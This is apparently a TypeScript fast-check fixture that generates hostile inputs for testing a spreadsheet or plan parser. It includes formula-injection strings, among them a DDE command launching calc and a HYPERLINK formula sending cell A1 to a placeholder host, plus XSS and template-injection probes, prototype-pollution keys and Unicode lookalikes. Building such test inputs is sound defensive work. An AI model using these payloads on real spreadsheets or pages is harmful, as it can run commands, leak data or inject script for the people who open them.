/** Texts that somebody might put into a cell, a name or an attribute to see what happens. */
import fc from 'fast-check';

/** What every object of the language has, or could be made to have. */
export const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
];

/** What a spreadsheet takes for a formula, or for anything else but text. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
  "=cmd|'/c calc'!A0",
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  "'=1+1",
  '{=1+1}',
  '=',
  '#REF!',
  '#N/A',
  'TRUE',
  '1e999',
  '-0',
  '0x10',
  '1/2',
  'NaN',
];

/** What a browser, a terminal or an XML reader takes for its own. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><b>',
  "'-alert(1)-'",
  'javascript:alert(1)',
  '&lt;b&gt;',
  '&#0;',
  ']]>',
  '<!--',
  '<![CDATA[',
  '${7*7}',
  '{{7*7}}',
  '%s%n',
  '_x0041_',
  '_x000D_',
  '&L&"Arial"&20',
  '\u001b[31mred',
  '\u001b]0;title\u0007',
  'a\u0000b',
  '\u0085',
  '\u2028',
];

/** Letters that look like others, run the other way, or are not there at all. */
export const LOOKALIKES = [
  'Соmрlеtеd',
  'Ⅽompleted',
  'Completed\u200b',
  '\u202edetelpmoC',
  '\u2066Completed\u2069',
  'Cοmpleted',
  'Ｃompleted',
  'Com\u00adpleted',
  'C\u0336ompleted',
  'ﬁnished',
  'İn progress',
  'ın progress',
  'STATUſ',
  '\ufeffStatus',
  'Statu\u0301s',
  '\ud800',
  '\udc00x',
  '\ufffe',
  '👩‍👩‍👧',
  'e' + '\u0301'.repeat(60),
];

/** Names that a sheet can bear and that a link or a formula has to quote. */
export const SHEET_NAMES = [
  "Director's plan",
  "''",
  "a''b",
  'Plan!A1',
  'R1C1',
  'A1',
  'TRUE',
  '=1+1',
  'Plan #2',
  '50%',
  'a&b<c>"d"',
  'план',
  '计划',
  'Plan\u202e',
  ' Plan ',
  '-',
  '2025-26',
  'Plan; 2',
  '{Plan}',
  'a\tb',
  'RAG Summary',
  'RAG settings',
  'rag SUMMARY (2)',
  ...PROTOTYPE_NAMES,
];

/** What a plan says in all honesty, so that hostile texts stand among what is looked for. */
const HONEST = [
  ...['Ref', 'Recommendation', 'Action', 'Status', 'RAG', 'Owner', 'Due date', 'Update', 'Theme', 'Impact'],
  ...['Completed', 'In progress', 'Not started', 'Green', 'Amber', 'Red', 'Blue', '50%', '31/03/2025', '1.1'],
  ...['Key', 'Green: on track', 'Red = late', 'No longer required', 'Head of Place', '', 'Total'],
];

const LONG = ['=', 'a', '\u0301', '😀', '(', ' ', '\n', 'no ', '1.'].map((part) => part.repeat(400));

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...FORMULAS, ...MARKUP, ...LOOKALIKES, ...PROTOTYPE_NAMES) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...HONEST), fc.constantFrom(...FORMULAS, ...MARKUP, ...LOOKALIKES))
      .map(([honest, other]) => honest + other),
  },
);

export const honestText: fc.Arbitrary<string> = fc.constantFrom(...HONEST);
